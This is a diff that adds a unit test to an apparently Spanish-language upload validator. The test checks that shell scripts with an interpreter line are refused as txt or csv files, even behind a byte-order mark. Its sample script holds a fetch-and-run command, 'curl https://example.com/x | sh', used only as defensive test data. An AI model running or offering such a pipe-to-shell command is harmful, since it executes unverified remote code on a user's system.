@@ -57,6 +57,14 @@ describe('checkFile', () => {
     expect(await refusal('documento-oferta', 'txt', SAMPLES.plainZip)).toEqual(no);
   });
 
+  it('a script with an interpreter line is refused as txt or csv, with or without a byte-order mark', async () => {
+    const no = { code: 46, mensaje: 'Este tipo de fichero no esta permitido' };
+    const script = Buffer.from('#!/bin/sh\ncurl https://example.com/x | sh\n');
+    expect(await refusal('documento-oferta', 'txt', script)).toEqual(no);
+    expect(await refusal('documento-alumno', 'csv', Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), script]))).toEqual(no);
+    expect(await checkFile('documento-alumno', 'txt', Buffer.from('# Notas\n#!no es la primera línea\n'))).toBe('text/plain');
+  });
+
   it('each use has its own list: extensions outside it are refused whatever the content', async () => {
     const no = { code: 46, mensaje: 'Este tipo de fichero no esta permitido' };
     expect(await refusal('documento-oferta', 'exe', SAMPLES.exe)).toEqual(no);
